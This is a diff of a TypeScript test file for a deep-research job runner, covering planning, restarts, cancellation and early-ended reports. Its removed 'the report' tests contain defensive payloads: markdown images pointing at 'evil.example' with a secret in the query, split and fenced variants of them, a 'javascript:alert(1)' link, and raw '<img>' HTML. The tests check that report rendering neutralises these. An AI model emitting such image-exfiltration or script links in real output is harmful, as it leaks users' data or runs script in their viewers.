@@ -1,179 +1,136 @@
 import assert from 'node:assert/strict';
-import { Failure } from '../../../../src/core/base/failure';
-import { readStep } from '../../../../src/core/interactions/steps';
-import type { ResearchJob } from '../../../../src/core/research/job';
-import { toReport } from '../../../../src/core/research/report';
+import { systemClock } from '../../../../src/core/base/clock';
+import type { ResearchJob } from '../../../../src/core/research/job/job';
+import { liveFacts } from '../../../../src/core/research/live/liveFacts';
+import { ResearchFiles, reportFolder } from '../../../../src/core/research/researchFiles';
 import { ResearchJobs } from '../../../../src/core/research/researchJobs';
-import { MemoryResearchStore } from '../../fakes/memoryResearchStore';
 import { serverUnderTest } from '../../gemini/serverUnderTest';
+import { MemoryFiles } from '../storage/memoryFiles';
+import { agent, words } from './researchUnderTest';
 
-const agent = 'deep-research-preview-04-2026';
-
-describe('ResearchJobs', () => {
+describe('research on the local server', () => {
   const under = serverUnderTest({ researchMs: 30 });
-  let store: MemoryResearchStore;
+  let files: MemoryFiles;
   const open: ResearchJobs[] = [];
 
   beforeEach(() => {
-    store = new MemoryResearchStore();
+    files = new MemoryFiles();
   });
   afterEach(() => {
     for (const jobs of open.splice(0)) jobs.dispose();
   });
 
-  function jobs(): ResearchJobs {
+  function jobs(ownFiles = files): ResearchJobs {
     const made = new ResearchJobs({
       interactions: under.client,
-      store,
+      files: new ResearchFiles(ownFiles, systemClock, crypto.randomUUID()),
       newId: () => crypto.randomUUID(),
       now: () => Date.now(),
-      sourcesHeading: 'Sources',
+      words,
+      recordUnsettled: () => {},
       onError: (error) => assert.fail(String(error)),
     });
     open.push(made);
     return made;
   }
-  const until = (made: ResearchJobs, state: ResearchJob['state']) =>
+  const until = (made: ResearchJobs, isMeant: (job: ResearchJob) => boolean) =>
     new Promise<ResearchJob>((resolve) => {
-      made.onDidChange((job) => job.state === state && resolve(job));
+      made.onDidChange((job) => isMeant(job) && resolve(job));
     });
+  const asked = (planFirst = false) => ({ question: 'Heat pumps in old houses', agent, planFirst });
+  const posts = () => under.server.requests.filter(({ method }) => method === 'POST').length;
+  const reportOf = ({ id, report }: ResearchJob) =>
+    new TextDecoder().decode(files.bytesOf(`${reportFolder(id)}/${report}`));
 
-  it('runs from the question to the report with its sources', async () => {
+  it('runs from the question over two plans to the report with its sources and its chart', async () => {
     const made = jobs();
-    const done = until(made, 'done');
-    await made.start('Heat pumps in old houses', agent);
+    const planned = until(made, ({ state, plans }) => state === 'planned' && plans.length === 1);
+    const { id } = await made.start(asked(true));
+    assert.match((await planned).plans[0]?.text ?? '', /^# Research plan: Heat pumps/);
 
-    const job = await done;
+    const again = until(made, ({ state, plans }) => state === 'planned' && plans.length === 2);
+    await made.changePlan(id, 'Leave out prices.');
+    assert.match((await again).plans[1]?.text ?? '', /Leave out prices/);
 
-    assert.deepEqual(store.states, ['starting', 'running', 'done']);
-    const report = store.reports.get(job.id);
-    assert.match(report?.markdown ?? '', /^# /m);
-    assert.match(report?.markdown ?? '', /https?:\/\//);
+    const done = until(made, ({ state }) => state === 'done');
+    await made.startPlanned(id);
+    const report = reportOf(await done);
+
+    assert.match(report, /^# Heat pumps/m);
+    assert.match(report, /!\[Figure 1\]\(figure-1\.png\)/);
+    assert.match(report, /nothing was looked up \[\\\[1\\\]\]\(#source-1\)/);
+    assert.doesNotMatch(report, /\[cite:/);
+    assert.equal(posts(), 3);
+  });
+
+  it('brings thoughts, searches and pages while it runs', async () => {
+    under.server.holdAfter(3);
+    const made = jobs();
+    const seen = until(made, ({ searches }) => searches > 0);
+    const { id } = await made.start(asked());
+    await under.server.held();
+    const job = await seen;
+
+    const facts = liveFacts(made.live(id)?.parts ?? []);
+    assert.deepEqual([facts.headline, facts.searches.length], [job.progress, job.searches]);
+    assert.ok(facts.thoughts.length >= 2 && facts.pages.length > 0);
+    const done = until(made, ({ state }) => state === 'done');
+    under.server.release();
+    await done;
   });
 
   it('goes on after a restart without starting again', async () => {
     under.server.holdAfter(2);
     const before = jobs();
-    await before.start('Heat pumps', agent);
+    await before.start(asked());
     await under.server.held();
     before.dispose();
 
-    const after = jobs();
-    const done = until(after, 'done');
+    const next = files.otherProcess(2);
+    next.gone.add('here/1');
+    const after = jobs(next);
+    const done = until(after, ({ state }) => state === 'done');
     await after.resume();
     under.server.release();
     await done;
 
-    assert.equal(under.server.requests.filter((request) => request.method === 'POST').length, 1);
-    assert.equal(store.reports.size, 1);
+    assert.equal(posts(), 1);
   });
 
-  it('counts as cancelled once the service says so', async () => {
-    under.server.holdAfter(2);
+  it('counts as cancelled once the service says so, and keeps what was written', async () => {
+    under.server.holdAfter(8);
     const made = jobs();
-    const cancelled = until(made, 'cancelled');
-    const job = await made.start('Heat pumps', agent);
+    const cancelled = until(made, ({ state }) => state === 'cancelled');
+    const { id } = await made.start(asked());
     await under.server.held();
 
-    await made.cancel(job.id);
+    await made.cancel(id);
 
-    assert.equal((await cancelled).id, job.id);
-    assert.deepEqual(store.states, ['starting', 'running', 'cancelling', 'cancelled']);
+    const job = await cancelled;
+    assert.equal(job.ending, 'cancelled');
+    assert.match(reportOf(job), /> Ended as cancelled\./);
   });
 
   it('is uncertain, and not repeated, when the start was cut off', async () => {
     under.server.answerNext({ drop: true });
     const made = jobs();
 
-    await assert.rejects(made.start('Heat pumps', agent), Failure);
+    await assert.rejects(made.start(asked()), { name: 'Failure' });
 
-    assert.deepEqual(store.states, ['starting', 'uncertain']);
-    assert.equal(under.server.requests.length, 1);
+    assert.deepEqual([made.all[0]?.state, under.server.requests.length], ['uncertain', 1]);
   });
 
-  it('has failed when the service refused it', async () => {
-    under.server.answerNext({ status: 429, body: { error: { code: 'rate_limit_exceeded', message: '' } } });
-    const made = jobs();
+  it('keeps a report that the service ended early', async () => {
+    for (const ends of ['incomplete', 'budget_exceeded'] as const) {
+      under.server.answerNext({ text: '# Half\n\nOf it.', ends });
+      const made = jobs();
+      const done = until(made, ({ state }) => state === 'done');
+      await made.start(asked());
 
-    await assert.rejects(made.start('Heat pumps', agent), Failure);
-
-    assert.deepEqual(store.states, ['starting', 'failed']);
-  });
-});
-
-describe('the report', () => {
-  const step = (...content: unknown[]) => readStep({ type: 'model_output', content: content as never });
-
-  it('shows pictures that came with it and turns pictures from elsewhere into links', () => {
-    const { markdown, pictures } = toReport(
-      'Q',
-      [
-        step({ type: 'text', text: '# T\n\n![chart](https://evil.example/?q=secret)\n' }),
-        step({ type: 'image', mime_type: 'image/png', data: 'AAAA' }),
-      ],
-      'Sources',
-    );
-
-    assert.deepEqual(pictures, [{ name: 'figure-1.png', data: 'AAAA' }]);
-    assert.match(markdown, /!\[\]\(figure-1\.png\)/);
-    assert.doesNotMatch(markdown, /!\[[^\]]*\]\(https?:/);
-  });
-
-  it('joins all its outputs, and gives a line of its own to one that begins a block', () => {
-    const output = (text: string) => readStep({ type: 'model_output', content: [{ type: 'text', text }] });
-    const steps = [output('# Title\n\nFirst, cut in mid-'), readStep({ type: 'thought', signature: 'x' })];
-
-    const { markdown } = toReport(
-      'Q',
-      [...steps, output('sentence.'), output('## Second'), output('\n\nEnd.')],
-      'Sources',
-    );
-
-    assert.equal(markdown, '# Title\n\nFirst, cut in mid-sentence.\n\n## Second\n\nEnd.\n');
-  });
-
-  it('lists the sources it was not told in its text', () => {
-    const annotations = [
-      { type: 'url_citation', url: 'https://a.example/1', title: 'A [x]', start_index: 0, end_index: 1 },
-      { type: 'url_citation', url: 'javascript:alert(1)', title: 'B', start_index: 0, end_index: 1 },
-    ];
-    const { markdown } = toReport('Q', [step({ type: 'text', text: 'Body', annotations })], 'Sources');
-
-    assert.match(markdown, /## Sources\n\n1\. \[A \\\[x\\\]\]\(<https:\/\/a\.example\/1>\)/);
-    assert.doesNotMatch(markdown, /javascript:/);
-  });
-
-  it('makes no picture of marks that merely stand before a link, or of what comes in two pieces', () => {
-    const texts = (...pieces: readonly string[]) => pieces.map((text) => ({ type: 'text', text }));
-    const written = [
-      ['!![a](https://evil.example/1)'],
-      ['Look!', '[a](https://evil.example/2)'],
-      ['![a]', '(https://evil.example/3)'],
-      ['```\n', 'code', '\n```\n![a](https://evil.example/4)'],
-      ['   ```\n```\n![a](https://evil.example/5)'],
-      ['- ```\n  ```\n![a](https://evil.example/6)'],
-    ];
-    for (const pieces of written) {
-      const { markdown } = toReport('Q', [step(...texts(...pieces))], 'Sources');
-      assert.match(markdown, /evil/);
-      assert.doesNotMatch(markdown, /(?<!\\)!\[/, pieces.join('|'));
+      const job = await done;
+      assert.equal(job.ending, ends);
+      assert.match(reportOf(job), /Of it\./);
+      made.dispose();
     }
-  });
-
-  it('closes code that was cut, so that what follows is not part of it', () => {
-    const picture = { type: 'image', mime_type: 'image/png', data: 'AAAA' };
-    const texts = ['```\ncode', '```\n![a](https://evil.example/)'].map((text) => ({ type: 'text', text }));
-
-    const { markdown } = toReport('Q', [step(texts[0], picture, texts[1])], 'Sources');
-
-    assert.match(markdown, /```\ncode\n```\n\n!\[\]\(figure-1\.png\)\n\n```\n!\[a\]\(https:\/\/evil\.example\/\)\n```/);
-  });
-
-  it('keeps HTML as text and code as it is', () => {
-    const text = (markdown: string) => toReport('Q', [step({ type: 'text', text: `# T\n\n${markdown}` })], '').markdown;
-    assert.equal(text('a <img src=x> <https://ok.example>'), '# T\n\na &lt;img src=x> <https://ok.example>\n');
-    const code = '```html\n<img src=x>\n![a](b)\n```';
-    assert.equal(text(code), `# T\n\n${code}\n`);
-    assert.equal(text('``` not `a fence\n<b>'), '# T\n\n\\`\\`\\` not \\`a fence\n&lt;b>\n');
   });
 });
